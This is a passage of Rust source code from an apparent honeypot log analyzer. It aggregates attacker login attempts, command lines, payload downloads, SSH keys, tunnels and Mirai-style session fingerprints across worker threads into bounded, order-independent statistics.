//! Streaming aggregation: one [`Aggregator`] per worker, merged at the end.
//!
//! State grows with distinct values (sources, credential pairs, sessions,
//! command lines, payload hosts, minutes of the timeline), never with rows.
//! Per-source lists are capped so one noisy scanner cannot grow without bound.

use std::hash::{BuildHasher, Hash, Hasher};
use std::net::IpAddr;
use std::sync::Arc;

use hashbrown::Equivalent;
use smallvec::SmallVec;

use crate::command::{self, CommandFacts, marker};
use crate::data::{self, CredLabel};
use crate::event::{ClientRequest, Event, EventKind};
use crate::fetch;
use crate::filter::Filters;
use crate::ioc;
use crate::table::{self, Table};
use crate::time::Micros;

/// Hash map with a fixed-seed fast hasher (ids are equal across workers).
pub type Map<K, V> = hashbrown::HashMap<K, V, foldhash::fast::FixedState>;
/// Hash set with the same hasher.
pub type Set<K> = hashbrown::HashSet<K, foldhash::fast::FixedState>;

/// Credential pairs kept per source (more are counted, not stored).
pub const MAX_SOURCE_CREDS: usize = 64;
const MAX_SOURCE_FEATURES: usize = 128;
const MAX_SOURCE_LIST: usize = 16;
const MAX_PAYLOAD_LIST: usize = 16;
/// Client versions, and HASSHes, kept per source (the smallest ids, see
/// [`SourceState::add_client`]).
pub const MAX_SOURCE_CLIENTS: usize = 4;
/// Bad rows kept as examples.
pub const MAX_BAD_SHOWN: usize = 10;

/// A stable 64-bit id for a tagged tuple of strings.
pub fn id_of(kind: u8, parts: &[&str]) -> u64 {
    let mut h = foldhash::fast::FixedState::with_seed(0x7472_6177).build_hasher();
    h.write_u8(kind);
    for p in parts {
        h.write_usize(p.len());
        h.write(p.as_bytes());
    }
    h.finish()
}

/// Feature kinds used in behaviour fingerprints.
pub mod feature {
    /// A credential pair.
    pub const CRED: u8 = 1;
    /// A command verb.
    pub const VERB: u8 = 2;
    /// A payload file name.
    pub const FILE: u8 = 3;
    /// A payload host.
    pub const HOST: u8 = 4;
    /// A full command line (for display lists).
    pub const LINE: u8 = 5;
    /// A protocol name.
    pub const PROTO: u8 = 6;
    /// A client software version a session announced (an SSH banner).
    pub const CLIENT: u8 = 7;
    /// A client HASSH (32 lowercase hex digits).
    pub const HASSH: u8 = 8;
    /// An SSH public key (`algorithm SHA256:...`) the source offered at a login or
    /// wrote into `authorized_keys`: one key on many sources is one operator.
    pub const KEY: u8 = 9;
    /// A BusyBox token (`/bin/busybox OKIRU`): each Mirai fork checks its shell
    /// with its own word, so the token tells forks apart where the verbs cannot. Only
    /// tokens of known bots ([`crate::data::token_variant`]) are features of their
    /// own; every other token is the one feature of the empty token, so that a bot
    /// that sends a new word on every connection still matches itself.
    pub const TOKEN: u8 = 10;
}

/// Session flag bits.
pub mod sflag {
    /// A credential attempt.
    pub const CRED: u8 = 1;
    /// `enable` typed.
    pub const ENABLE: u8 = 1 << 1;
    /// `system` typed.
    pub const SYSTEM: u8 = 1 << 2;
    /// `shell` typed.
    pub const SHELL: u8 = 1 << 3;
    /// `sh` typed.
    pub const SH: u8 = 1 << 4;
    /// A shell line typed.
    pub const SHELL_LINE: u8 = 1 << 5;
    /// A download command.
    pub const DOWNLOAD: u8 = 1 << 6;
    /// All four Mirai scanner words.
    pub const MIRAI_SEQ: u8 = ENABLE | SYSTEM | SHELL | SH;
}

/// Bytes of a pair kept inside the map's own slot when they fit: looking a pair up
/// then touches one slot instead of the slot plus two heap strings (the pair map
/// holds ~600 k pairs on the benchmark log, so each of those was a cache miss).
const INLINE_PAIR: usize = 28;

/// A username/password pair as one byte string, user then pass; `Inline` whenever
/// it fits (so equal pairs always have the same form and derived equality is exact).
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum PairKey {
    Inline {
        user_len: u8,
        len: u8,
        bytes: [u8; INLINE_PAIR],
    },
    Heap {
        user_len: usize,
        bytes: Box<[u8]>,
    },
}

impl PairKey {
    pub fn new(user: &str, pass: &str) -> Self {
        let len = user.len() + pass.len();
        match (u8::try_from(user.len()), u8::try_from(len)) {
            (Ok(user_len), Ok(total)) if len <= INLINE_PAIR => {
                let mut bytes = [0u8; INLINE_PAIR];
                for (slot, b) in bytes.iter_mut().zip(user.bytes().chain(pass.bytes())) {
                    *slot = b;
                }
                PairKey::Inline {
                    user_len,
                    len: total,
                    bytes,
                }
            }
            _ => PairKey::Heap {
                user_len: user.len(),
                bytes: [user.as_bytes(), pass.as_bytes()].concat().into(),
            },
        }
    }

    fn parts(&self) -> (&[u8], &[u8]) {
        let (all, user_len) = match self {
            PairKey::Inline {
                user_len,
                len,
                bytes,
            } => (
                bytes.get(..usize::from(*len)).unwrap_or_default(),
                usize::from(*user_len),
            ),
            PairKey::Heap { user_len, bytes } => (&bytes[..], *user_len),
        };
        all.split_at_checked(user_len).unwrap_or((all, &[]))
    }

    /// The username (built from a `&str`, so always valid UTF-8).
    pub fn user(&self) -> &str {
        std::str::from_utf8(self.parts().0).unwrap_or_default()
    }

    /// The password.
    pub fn pass(&self) -> &str {
        std::str::from_utf8(self.parts().1).unwrap_or_default()
    }
}

/// Hashes like [`PairRef`] (same writes), so borrowed lookups find owned keys.
impl Hash for PairKey {
    fn hash<H: Hasher>(&self, state: &mut H) {
        let (user, pass) = self.parts();
        hash_pair(state, user, pass);
    }
}

fn hash_pair<H: Hasher>(state: &mut H, user: &[u8], pass: &[u8]) {
    state.write_usize(user.len());
    state.write(user);
    state.write(pass);
}

/// A borrowed pair for lookups without allocating.
pub(crate) struct PairRef<'a> {
    pub user: &'a str,
    pub pass: &'a str,
}

impl Hash for PairRef<'_> {
    fn hash<H: Hasher>(&self, state: &mut H) {
        hash_pair(state, self.user.as_bytes(), self.pass.as_bytes());
    }
}

impl Equivalent<PairKey> for PairRef<'_> {
    fn equivalent(&self, key: &PairKey) -> bool {
        let (user, pass) = key.parts();
        self.user.as_bytes() == user && self.pass.as_bytes() == pass
    }
}

/// The hash of a pair, as the pair table files it.
fn pair_hash(user: &str, pass: &str) -> u64 {
    table::hash_of(&PairRef { user, pass })
}

/// Counts of one credential pair.
#[derive(Debug, Clone, Copy)]
pub(crate) struct PairStats {
    pub count: u64,
    pub is_command: bool,
    /// The password is a command too (a login word or a shell line).
    pub pass_is_command: bool,
    pub label: Option<CredLabel>,
    /// [`id_of`] of the credential (0 for commands), computed once per distinct pair.
    pub id: u64,
    /// For a command pair: the [`Aggregator::command_stats`] slots of the username's
    /// and (if it is one) the password's command line, found once per distinct pair
    /// ([`NO_COMMAND`] where unknown: a pair merged from another worker).
    pub commands: [u32; 2],
}

/// [`PairStats::commands`] of a line not looked up (yet).
const NO_COMMAND: u32 = u32::MAX;

/// What is known about one source address.
#[derive(Debug, Clone, Default)]
pub(crate) struct SourceState {
    pub events: u64,
    pub cred_attempts: u64,
    pub cmd_attempts: u64,
    pub mirai_cred_attempts: u64,
    pub first: Option<Micros>,
    pub last: Option<Micros>,
    /// (pair id, count), at most [`MAX_SOURCE_CREDS`] (most sources try a few:
    /// those stay inline, without an allocation of their own).
    pub creds: SmallVec<[(u64, u32); 2]>,
    pub creds_overflow: bool,
    /// Features (with the SSH keys it offered) and command lines; only sources that
    /// typed commands, pushed payloads or offered keys have them (a third of ~1 M),
    /// so they live behind one pointer.
    pub cmds: Option<Box<CommandLists>>,
    /// Protocol ids (almost always one or two: inline).
    pub protocols: SmallVec<[u64; 2]>,
    pub markers: u16,
    pub login_words: u8,
}

/// What a source typed.
#[derive(Debug, Clone, Default)]
pub(crate) struct CommandLists {
    /// Sorted fingerprint features other than credentials (verbs, files, hosts).
    pub features: Vec<u64>,
    /// Command line ids (display).
    pub lines: Vec<u64>,
    /// The client software the source announced; only sources with client
    /// records have them (none in Heralding's CSV logs), so one more pointer.
    pub clients: Option<Box<ClientLists>>,
}

/// The client software one source announced, as [`id_of`] ids, each list the
/// [`MAX_SOURCE_CLIENTS`] smallest, sorted (most sources use one client: inline).
#[derive(Debug, Clone, Default)]
pub(crate) struct ClientLists {
    /// [`feature::CLIENT`] ids of its client versions.
    pub versions: SmallVec<[u64; 2]>,
    /// [`feature::HASSH`] ids of its HASSHes.
    pub hassh: SmallVec<[u64; 2]>,
}

impl SourceState {
    /// Sorted fingerprint features other than credentials (verbs, files, hosts).
    pub fn features(&self) -> &[u64] {
        self.cmds.as_ref().map_or(&[], |c| &c.features)
    }

    /// Command line ids (display).
    pub fn lines(&self) -> &[u64] {
        self.cmds.as_ref().map_or(&[], |c| &c.lines)
    }

    fn cmds_mut(&mut self) -> &mut CommandLists {
        self.cmds.get_or_insert_with(Box::default)
    }

    /// [`feature::CLIENT`] ids of the client versions the source announced (sorted).
    pub fn client_versions(&self) -> &[u64] {
        self.client_lists().map_or(&[], |c| &c.versions)
    }

    /// [`feature::HASSH`] ids of the source's HASSHes (sorted).
    pub fn client_hassh(&self) -> &[u64] {
        self.client_lists().map_or(&[], |c| &c.hassh)
    }

    fn client_lists(&self) -> Option<&ClientLists> {
        self.cmds.as_ref().and_then(|c| c.clients.as_deref())
    }

    /// Adds a client id of kind `kind` ([`feature::CLIENT`] or [`feature::HASSH`]).
    /// Like [`Self::add_cred`], only the [`MAX_SOURCE_CLIENTS`] smallest ids are
    /// kept, sorted, so the lists do not depend on the order of the records or on
    /// how the input was split between threads.
    fn add_client(&mut self, kind: u8, id: u64) {
        let lists = self.cmds_mut().clients.get_or_insert_with(Box::default);
        let list = if kind == feature::HASSH {
            &mut lists.hassh
        } else {
            &mut lists.versions
        };
        push_unique_small(list, id, MAX_SOURCE_CLIENTS);
    }

    fn touch(&mut self, ts: Option<Micros>) {
        self.events += 1;
        extend_range(&mut self.first, &mut self.last, ts);
    }

    /// Counts a credential pair. Only the [`MAX_SOURCE_CREDS`] smallest pair ids are
    /// kept (sorted by id), so which pairs survive, and their counts, do not depend on
    /// the order rows arrive in or on how the input was split between threads: a pair
    /// dropped by one worker has that many smaller ids there, so it is dropped from
    /// the merged state too.
    fn add_cred(&mut self, id: u64, n: u32) {
        match self.creds.binary_search_by_key(&id, |&(c, _)| c) {
            Ok(i) => self.creds[i].1 = self.creds[i].1.saturating_add(n),
            Err(pos) if pos < MAX_SOURCE_CREDS => {
                self.creds.insert(pos, (id, n));
                if self.creds.len() > MAX_SOURCE_CREDS {
                    self.creds.pop();
                    self.creds_overflow = true;
                }
            }
            Err(_) => self.creds_overflow = true,
        }
    }

    fn merge(&mut self, other: SourceState) {
        self.events += other.events;
        self.cred_attempts += other.cred_attempts;
        self.cmd_attempts += other.cmd_attempts;
        self.mirai_cred_attempts += other.mirai_cred_attempts;
        merge_range(&mut self.first, &mut self.last, other.first, other.last);
        for (id, n) in other.creds {
            self.add_cred(id, n);
        }
        self.creds_overflow |= other.creds_overflow;
        if let Some(o) = other.cmds {
            let mine = self.cmds_mut();
            for f in o.features {
                push_unique(&mut mine.features, f, MAX_SOURCE_FEATURES);
            }
            for l in o.lines {
                push_unique(&mut mine.lines, l, MAX_SOURCE_LIST);
            }
            if let Some(c) = o.clients {
                for v in c.versions {
                    self.add_client(feature::CLIENT, v);
                }
                for h in c.hassh {
                    self.add_client(feature::HASSH, h);
                }
            }
        }
        for p in other.protocols {
            push_unique_small(&mut self.protocols, p, MAX_SOURCE_LIST);
        }
        self.markers |= other.markers;
        self.login_words |= other.login_words;
    }
}

/// One session being rebuilt.
#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct SessionState {
    pub first: Option<Micros>,
    pub last: Option<Micros>,
    pub src: Option<IpAddr>,
    pub attempts: u32,
    pub flags: u8,
    pub duration_ms: Option<u64>,
    pub declared_attempts: Option<u64>,
}

impl SessionState {
    /// [`Self::merge`] of one row's state (`ts`, `src`, `attempts`, `flags`, no
    /// duration), without building it.
    fn add_row(&mut self, ts: Option<Micros>, src: Option<IpAddr>, (attempts, flags): (u32, u8)) {
        extend_range(&mut self.first, &mut self.last, ts);
        // A session id logged from several addresses shows the smallest: the same
        // whatever order rows and workers' counts are merged in.
        if self.src != src {
            self.src = match (self.src, src) {
                (Some(a), Some(b)) => Some(a.min(b)),
                (a, b) => a.or(b),
            };
        }
        self.attempts = self.attempts.saturating_add(attempts);
        self.flags |= flags;
    }

    fn merge(&mut self, o: SessionState) {
        self.add_row(o.first, o.src, (o.attempts, o.flags));
        extend_range(&mut self.first, &mut self.last, o.last);
        self.duration_ms = self.duration_ms.max(o.duration_ms);
        self.declared_attempts = self.declared_attempts.max(o.declared_attempts);
    }
}

/// Per payload host.
#[derive(Debug, Clone, Default)]
pub(crate) struct PayloadState {
    pub first: Option<Micros>,
    pub last: Option<Micros>,
    pub attempts: u64,
    pub scanners: Set<IpAddr>,
    pub methods: Vec<&'static str>,
    pub files: Vec<Box<str>>,
    pub ports: Vec<u16>,
}

impl PayloadState {
    fn merge(&mut self, o: PayloadState) {
        merge_range(&mut self.first, &mut self.last, o.first, o.last);
        self.attempts += o.attempts;
        self.scanners.extend(o.scanners);
        for m in o.methods {
            push_unique(&mut self.methods, m, MAX_PAYLOAD_LIST);
        }
        for f in o.files {
            push_unique(&mut self.files, f, MAX_PAYLOAD_LIST);
        }
        for p in o.ports {
            push_unique(&mut self.ports, p, MAX_PAYLOAD_LIST);
        }
    }
}

/// URLs or upload names kept per payload digest (the smallest, sorted).
pub(crate) const MAX_HASH_ORIGINS: usize = 8;
/// Requested hosts kept per tunnel destination (the smallest, sorted).
pub(crate) const MAX_TUNNEL_HOSTS: usize = 8;

/// Per payload SHA-256 (Cowrie downloads and uploads).
#[derive(Debug, Clone, Default)]
pub(crate) struct HashState {
    pub first: Option<Micros>,
    pub last: Option<Micros>,
    /// Records naming the digest.
    pub count: u64,
    /// Distinct sources that sent or fetched it (grows with sources, like
    /// [`PayloadState::scanners`]).
    pub sources: Set<IpAddr>,
    /// URLs it was downloaded from, at most [`MAX_HASH_ORIGINS`].
    pub urls: Vec<Box<str>>,
    /// Names it was uploaded as, at most [`MAX_HASH_ORIGINS`].
    pub uploads: Vec<Box<str>>,
}

impl HashState {
    /// Counts one record logged at `ts` from `src`.
    fn add(&mut self, ts: Option<Micros>, src: Option<IpAddr>) {
        self.count += 1;
        extend_range(&mut self.first, &mut self.last, ts);
        if let Some(src) = src {
            self.sources.insert(src);
        }
    }

    fn merge(&mut self, o: HashState) {
        merge_range(&mut self.first, &mut self.last, o.first, o.last);
        self.count += o.count;
        self.sources.extend(o.sources);
        for u in o.urls {
            push_unique(&mut self.urls, u, MAX_HASH_ORIGINS);
        }
        for u in o.uploads {
            push_unique(&mut self.uploads, u, MAX_HASH_ORIGINS);
        }
    }
}

/// Per tunnel destination `(host, port)` (Cowrie direct-tcpip).
#[derive(Debug, Clone, Default)]
pub(crate) struct TunnelState {
    pub first: Option<Micros>,
    pub last: Option<Micros>,
    /// Channel requests.
    pub requests: u64,
    /// Data records.
    pub data: u64,
    /// Distinct sources.
    pub sources: Set<IpAddr>,
    /// Hosts the HTTP requests sent into the tunnel asked for, at most
    /// [`MAX_TUNNEL_HOSTS`].
    pub http_hosts: Vec<Box<str>>,
}

impl TunnelState {
    fn merge(&mut self, o: TunnelState) {
        merge_range(&mut self.first, &mut self.last, o.first, o.last);
        self.requests += o.requests;
        self.data += o.data;
        self.sources.extend(o.sources);
        for h in o.http_hosts {
            push_unique(&mut self.http_hosts, h, MAX_TUNNEL_HOSTS);
        }
    }
}

/// Per SSH public key (`algorithm SHA256:...`, see [`crate::sshkey`]).
#[derive(Debug, Clone, Default)]
pub(crate) struct KeyState {
    pub first: Option<Micros>,
    pub last: Option<Micros>,
    /// Login attempts that offered it.
    pub offered: u64,
    /// Command lines that wrote it into `authorized_keys`.
    pub planted: u64,
    /// Distinct sources.
    pub sources: Set<IpAddr>,
    /// Users it was offered for, with counts (at most [`MAX_KEY_USERS`] names).
    pub users: Map<Box<str>, u64>,
    /// Comments it was planted with (at most [`MAX_KEY_COMMENTS`], smallest first).
    pub comments: Vec<Box<str>>,
}

/// How a key was used, for [`Aggregator::count_key`].
enum KeyUse<'a> {
    /// Offered at a login for this user.
    Offered(&'a str),
    /// Written into `authorized_keys`, with this comment.
    Planted(Option<&'a str>),
}

/// Distinct users kept per key.
pub const MAX_KEY_USERS: usize = 32;
/// Distinct comments kept per key.
pub const MAX_KEY_COMMENTS: usize = 4;

impl KeyState {
    fn add_user(&mut self, user: &str, count: u64) {
        let user = bounded(user);
        if let Some(n) = self.users.get_mut(user) {
            *n += count;
        } else if self.users.len() < MAX_KEY_USERS {
            self.users.insert(user.into(), count);
        }
    }

    fn merge(&mut self, o: KeyState) {
        merge_range(&mut self.first, &mut self.last, o.first, o.last);
        self.offered += o.offered;
        self.planted += o.planted;
        self.sources.extend(o.sources);
        for (user, n) in o.users {
            self.add_user(&user, n);
        }
        for c in o.comments {
            push_unique(&mut self.comments, c, MAX_KEY_COMMENTS);
        }
    }
}

/// `(method, host, port, file)` of one distinct download.
pub(crate) type DownloadKey = (&'static str, Box<str>, Option<u16>, Box<str>);

/// A borrowed [`DownloadKey`] for lookups without allocating; hashes like the tuple.
struct DownloadRef<'a> {
    method: &'static str,
    host: &'a str,
    port: Option<u16>,
    file: &'a str,
}

impl Hash for DownloadRef<'_> {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self.method.hash(state);
        self.host.hash(state);
        self.port.hash(state);
        self.file.hash(state);
    }
}

impl Equivalent<DownloadKey> for DownloadRef<'_> {
    fn equivalent(&self, key: &DownloadKey) -> bool {
        self.method == key.0 && self.host == &*key.1 && self.port == key.2 && self.file == &*key.3
    }
}

/// One distinct command line, analysed once: its facts and the ids and session
/// flags every occurrence adds.
#[derive(Debug)]
pub(crate) struct CommandInfo {
    pub facts: CommandFacts,
    /// [`id_of`] of the line ([`feature::LINE`]).
    pub line_id: u64,
    /// Fingerprint features, in the order they are added: verbs, then per download
    /// its file and host, then planted SSH keys and BusyBox tokens.
    pub features: Vec<u64>,
    /// Session flags of the line.
    pub flags: u8,
}

impl CommandInfo {
    fn new(line: &str) -> Self {
        let facts = command::analyze(line);
        let mut features: Vec<u64> = facts
            .verbs
            .iter()
            .map(|verb| id_of(feature::VERB, &[verb]))
            .collect();
        for d in &facts.downloads {
            if !d.file.is_empty() {
                features.push(id_of(feature::FILE, &[&d.file]));
            }
            if !d.host.is_empty() {
                features.push(id_of(feature::HOST, &[&d.host]));
            }
        }
        for k in &facts.planted_keys {
            features.push(id_of(feature::KEY, &[&k.print]));
        }
        for token in &facts.busybox_tokens {
            let known = data::token_variant(token).map_or("", |_| token.as_str());
            features.push(id_of(feature::TOKEN, &[known]));
        }
        let mut flags = session_word_flag(line);
        if facts.markers & marker::SHELL_LINE != 0 {
            flags |= sflag::SHELL_LINE;
        }
        if !facts.downloads.is_empty() {
            flags |= sflag::DOWNLOAD;
        }
        CommandInfo {
            line_id: id_of(feature::LINE, &[line]),
            features,
            flags,
            facts,
        }
    }
}

/// Counts per distinct command line, with the analysis done once.
#[derive(Debug, Clone)]
pub(crate) struct CommandStats {
    pub count: u64,
    pub info: Arc<CommandInfo>,
}

/// A row that could not be read.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, serde::Serialize)]
pub struct BadRow {
    /// File name as given.
    pub file: String,
    /// 1-based line number.
    pub line: u64,
    /// What was wrong.
    pub reason: String,
}

/// Per input file counters.
#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct FileCounts {
    pub events: u64,
    pub bad: u64,
}

/// Everything counted so far.
#[derive(Debug, Default)]
pub struct Aggregator {
    pub(crate) events: u64,
    pub(crate) filtered_out: u64,
    pub(crate) auth_attempts: u64,
    pub(crate) cred_attempts: u64,
    pub(crate) cmd_attempts: u64,
    pub(crate) shell_commands: u64,
    pub(crate) logins_succeeded: u64,
    pub(crate) recorded_downloads: u64,
    pub(crate) connects: u64,
    pub(crate) first: Option<Micros>,
    pub(crate) last: Option<Micros>,
    pub(crate) protocols: Map<Box<str>, u64>,
    pub(crate) ports: Map<u16, u64>,
    pub(crate) sources: Sources,
    pub(crate) pairs: Table<PairKey, PairStats>,
    /// Distinct command lines, with their slot in [`Self::command_stats`].
    pub(crate) commands: Map<Box<str>, u32>,
    /// Counts and analysis per distinct command line, by slot.
    pub(crate) command_stats: Vec<CommandStats>,
    pub(crate) timeline: Map<i64, [u64; 2]>,
    pub(crate) sessions: Map<u64, SessionState>,
    pub(crate) gap_sessions: Map<(IpAddr, u16), Vec<SessionState>>,
    pub(crate) payloads: Map<Box<str>, PayloadState>,
    pub(crate) downloads: Map<DownloadKey, u64>,
    /// Per session key: the fetches its command lines asked for and the downloads
    /// the honeypot recorded, matched once every worker's rows are merged
    /// ([`Self::settle_fetches`]; see [`crate::fetch`]).
    session_fetches: Map<u64, fetch::SessionFetches>,
    pub(crate) busybox_tokens: Map<Box<str>, u64>,
    /// Sessions per announced client version (at most [`MAX_CLIENT_VERSION`] bytes each).
    pub(crate) client_versions: Map<Box<str>, u64>,
    /// Environment variables SSH clients set (`NAME=value`, at most
    /// [`MAX_CLIENT_VERSION`] bytes): how often each.
    pub(crate) client_env: Map<Box<str>, u64>,
    /// Terminal sizes SSH clients announced (`WIDTHxHEIGHT`): how often each.
    pub(crate) terminal_sizes: Map<Box<str>, u64>,
    /// Sessions per client HASSH (32 lowercase hex digits).
    pub(crate) hassh: Map<Box<str>, u64>,
    /// The algorithm lists logged for a HASSH: the smallest text seen (so the pick
    /// does not depend on the read order), at most [`MAX_HASSH_ALGORITHMS`] bytes.
    pub(crate) hassh_algorithms: Map<Box<str>, Box<str>>,
    /// Payloads by SHA-256 (64 lowercase hex digits).
    pub(crate) payload_hashes: Map<Box<str>, HashState>,
    /// Sessions per digest of the attacker's typed input (Cowrie TTY logs); the
    /// `urls` and `uploads` of these states stay empty.
    pub(crate) tty_inputs: Map<Box<str>, HashState>,
    /// The latest VirusTotal verdict logged per fetched URL, keyed by
    /// [`fetch::fetch_key`] (host, port, file: as the downloads table counts them).
    pub(crate) url_verdicts: Map<u64, Verdict>,
    /// Reverse DNS names of source addresses (the smallest logged per address,
    /// lowercased, without a final dot, at most [`MAX_CLIENT_VERSION`] bytes).
    pub(crate) source_names: Map<IpAddr, Box<str>>,
    /// The latest VirusTotal verdict logged per SHA-256 (of any file, downloaded in
    /// the report's window or not: the report shows those of its payload hashes).
    pub(crate) virustotal: Map<Box<str>, Verdict>,
    /// Tunnel destinations by `(host, port)`.
    pub(crate) tunnels: Map<(Box<str>, u16), TunnelState>,
    /// SSH public keys offered or planted, by fingerprint.
    pub(crate) ssh_keys: Map<Box<str>, KeyState>,
    /// Login attempts with a public key (no credential pair).
    pub(crate) key_offers: u64,
    /// Logins whose password was only seen hashed, by `(mechanism, user)`.
    pub(crate) hashed_logins: Map<(Box<str>, Box<str>), u64>,
    /// Their number.
    pub(crate) hashed_attempts: u64,
    /// Indexed by input file index.
    pub(crate) files: Vec<FileCounts>,
    pub(crate) bad_total: u64,
    pub(crate) bad_shown: Vec<BadRow>,
    pub(crate) gap_secs: i64,
    /// Sessions already complete, folded into counters.
    pub(crate) done_sessions: SessionSummary,
    block_min: Option<Micros>,
    block_max: Option<Micros>,
    block_new_sessions: Vec<u64>,
    /// Protocols seen: name, [`feature::PROTO`] id, attempts not yet in
    /// `protocols`. Logs name a handful of protocols, so a short list searched from
    /// the last hit costs less than hashing the name into the maps on every row.
    protocol_table: Vec<ProtocolEntry>,
    /// Index in `protocol_table` of the last protocol looked up.
    last_protocol: usize,
    /// The last session id seen and its key (rows of one session come in runs).
    last_session: (String, Option<IpAddr>, u64),
    /// Sessions are keyed by id and source address (see [`Aggregator::sessions_per_source`]).
    session_per_source: bool,
    /// The minute being counted and its counts, not yet in `timeline` (rows come in
    /// time order, so one minute is hundreds of rows in a row): see [`Self::flush_runs`].
    minute_run: Option<(i64, [u64; 2])>,
    /// Attempts per destination port, indexed by port, not yet in `ports` (a map
    /// entry per row cost a hash and a probe).
    port_counts: Vec<u64>,
}

/// Bytes of a username, password, command line or download URL kept: a longer
/// one (a hostile or broken log; honeypots cut their input far shorter) is
/// counted by its first [`MAX_TEXT`] bytes, so a few huge fields cannot make the
/// tables that hold every distinct value huge.
pub const MAX_TEXT: usize = 16 << 10;

/// `text` cut to at most [`MAX_TEXT`] bytes, at a character boundary.
fn bounded(text: &str) -> &str {
    if text.len() <= MAX_TEXT {
        return text;
    }
    let mut cut = MAX_TEXT;
    while !text.is_char_boundary(cut) {
        cut -= 1;
    }
    text.get(..cut).unwrap_or_default()
}

/// A VirusTotal verdict as logged: when, and the scan result (flagged, consulted)
/// or `None` for a file new to VirusTotal. Ordered by time first, so the largest is
/// the latest (ties by result: the same pick whatever the read order).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct Verdict {
    /// When the verdict was logged.
    pub ts: Option<Micros>,
    /// Engines that flagged the file and engines consulted.
    pub result: Option<(u32, u32)>,
}

fn keep_latest<K: Eq + Hash>(map: &mut Map<K, Verdict>, key: K, verdict: Verdict) {
    let kept = map.entry(key).or_insert(verdict);
    *kept = (*kept).max(verdict);
}

/// Bytes kept of the algorithm lists behind a HASSH (OpenSSH 9 offers about 1,000).
pub const MAX_HASSH_ALGORITHMS: usize = 4096;

/// Counts `text` (trimmed, cut to `max` bytes) in `map` and gives back what was
/// counted; empty text counts nothing.
fn count_text<'t>(map: &mut Map<Box<str>, u64>, text: &'t str, max: usize) -> Option<&'t str> {
    let text = ioc::clip_text(text, max);
    if text.is_empty() {
        return None;
    }
    if let Some(n) = map.get_mut(text) {
        *n += 1;
    } else {
        map.insert(text.into(), 1);
    }
    Some(text)
}

/// Keeps the smallest non-empty `value` seen for `key`.
fn keep_smallest(map: &mut Map<Box<str>, Box<str>>, key: &str, value: &str) {
    if value.is_empty() {
        return;
    }
    match map.get_mut(key) {
        Some(kept) if **kept <= *value => {}
        Some(kept) => *kept = value.into(),
        None => {
            map.insert(key.into(), value.into());
        }
    }
}

/// Bytes of a client version string kept (a banner is at most 255 by RFC 4253).
pub const MAX_CLIENT_VERSION: usize = 255;

/// Protocols kept in [`Aggregator`]'s short protocol table.
const MAX_PROTOCOL_TABLE: usize = 32;

/// One protocol of [`Aggregator`]'s protocol table.
#[derive(Debug)]
struct ProtocolEntry {
    name: Box<str>,
    /// Its first 8 bytes (zero-padded), compared before the name itself.
    prefix: u64,
    /// Its [`feature::PROTO`] id.
    id: u64,
    /// Attempts not yet in [`Aggregator::protocols`].
    pending: u64,
}

/// The first 8 bytes of `name`, zero-padded, as one word.
fn name_prefix(name: &str) -> u64 {
    // A byte loop: protocol names are short, and a copy of a variable length
    // is a call to memcpy.
    name.bytes()
        .take(8)
        .enumerate()
        .fold(0, |word, (i, b)| word | u64::from(b) << (8 * i))
}

/// Rows whose entries [`Aggregator::ingest_batch`] reads ahead in one go.
const WARM_ROWS: usize = 16;

/// What [`Aggregator::warm`] computes for a row before it reads any table.
#[derive(Debug, Clone, Copy, Default)]
struct Probe {
    /// The hash of the row's credential pair (login rows).
    pair: Option<u64>,
    /// The hash of its source address, when the previous row had another.
    src: Option<u64>,
    /// Its session key, if it has a session id.
    session: Option<u64>,
    /// The session key, when the previous row had another session.
    new_session: Option<u64>,
}

/// What [`Aggregator::ingest_batch`]'s look-ahead found for one row.
#[derive(Debug, Clone, Copy, Default)]
struct Warmed {
    /// Whether the filters keep the row (decided once, here).
    accepted: Option<bool>,
    /// The row's session key.
    session_key: Option<u64>,
    /// Its source's slot, if the source was known.
    slot: Option<u32>,
    /// Its credential pair's counts, the row already counted.
    pair: Option<PairStats>,
}

/// Sessions longer than this are not assumed complete at the end of a block.
pub const SESSION_HORIZON_SECS: i64 = 600;
/// How far out of time order a `trawl.db`'s rows may have been written (the sensor
/// writes them as they happen, a batch at a time): a session this close to the
/// edge of a unit's time window is not folded at the unit's end.
pub const STORE_SLACK_SECS: i64 = 60;
const MAX_TOP_SESSIONS: usize = 1_024;

/// Counters over finished sessions (so finished sessions need no memory of their own).
#[derive(Debug, Clone, Default)]
pub(crate) struct SessionSummary {
    pub by_id: u64,
    pub by_gap: u64,
    pub with_credentials: u64,
    pub with_commands: u64,
    pub mirai_sequence: u64,
    pub with_downloads: u64,
    pub histogram: [u64; 5],
    pub durations_ms: Vec<u32>,
    /// (entries, -start, source, duration ms, flags), the longest few.
    pub top: Vec<TopSession>,
    /// The smallest of `top` once it has been cut to [`MAX_TOP_SESSIONS`]: a session
    /// not above it cannot enter (most sessions are one or two attempts).
    top_floor: Option<TopSession>,
}

/// (entries, -start, source, duration ms, flags) of one session.
pub(crate) type TopSession = (u64, i64, IpAddr, u64, u8);

impl SessionSummary {
    /// Folds one session in.
    pub fn add(&mut self, s: &SessionState, from_gap: bool) {
        if from_gap {
            self.by_gap += 1;
        } else {
            self.by_id += 1;
        }
        let attempts = u64::from(s.attempts).max(s.declared_attempts.unwrap_or(0));
        let f = s.flags;
        self.with_credentials += u64::from(f & sflag::CRED != 0);
        self.with_commands += u64::from(f & (sflag::SHELL_LINE | sflag::MIRAI_SEQ) != 0);
        self.mirai_sequence += u64::from(f & sflag::MIRAI_SEQ == sflag::MIRAI_SEQ);
        self.with_downloads += u64::from(f & sflag::DOWNLOAD != 0);
        let slot = match attempts {
            0 | 1 => 0,
            2 => 1,
            3 => 2,
            4..=10 => 3,
            _ => 4,
        };
        if let Some(h) = self.histogram.get_mut(slot) {
            *h += 1;
        }
        let span_ms = s
            .first
            .zip(s.last)
            .map_or(0, |(a, b)| u64::try_from((b - a) / 1000).unwrap_or(0));
        let duration = s.duration_ms.unwrap_or(span_ms).max(span_ms);
        self.durations_ms
            .push(u32::try_from(duration).unwrap_or(u32::MAX));
        if let Some(src) = s.src {
            let entry = (attempts, -s.first.unwrap_or(0), src, duration, f);
            if self.top_floor.is_some_and(|floor| entry <= floor) {
                return;
            }
            self.top.push(entry);
            if self.top.len() > 2 * MAX_TOP_SESSIONS {
                self.trim_top();
            }
        }
    }

